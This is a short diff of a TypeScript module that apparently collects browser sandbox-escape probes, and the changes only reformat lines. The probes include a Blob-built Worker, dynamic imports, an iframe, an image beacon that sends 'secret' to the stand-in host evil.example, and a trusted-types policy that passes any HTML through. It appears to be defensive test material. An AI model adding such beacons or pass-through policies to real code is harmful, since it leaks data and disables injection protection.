@@ -59,7 +59,9 @@ export const doors: Readonly<Record<string, () => void>> = {
     void import(/* webpackIgnore: true */ data).catch(() => undefined);
   },
   'a worker of our making': () => {
-    Reflect.construct(Worker, [URL.createObjectURL(new Blob(['parolRan()'], { type: 'text/javascript' }))]);
+    Reflect.construct(Worker, [
+      URL.createObjectURL(new Blob(['parolRan()'], { type: 'text/javascript' })),
+    ]);
   },
   'a frame with a page inside': () => {
     const frame = document.createElement('iframe');
@@ -99,7 +101,9 @@ export const doors: Readonly<Record<string, () => void>> = {
     new Image().src = 'https://evil.example/x.png?secret';
   },
   'a policy that lets all through': () => {
-    const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } };
+    const { trustedTypes } = window as unknown as {
+      trustedTypes: { createPolicy(name: string, rules: object): unknown };
+    };
     trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
   },
 };
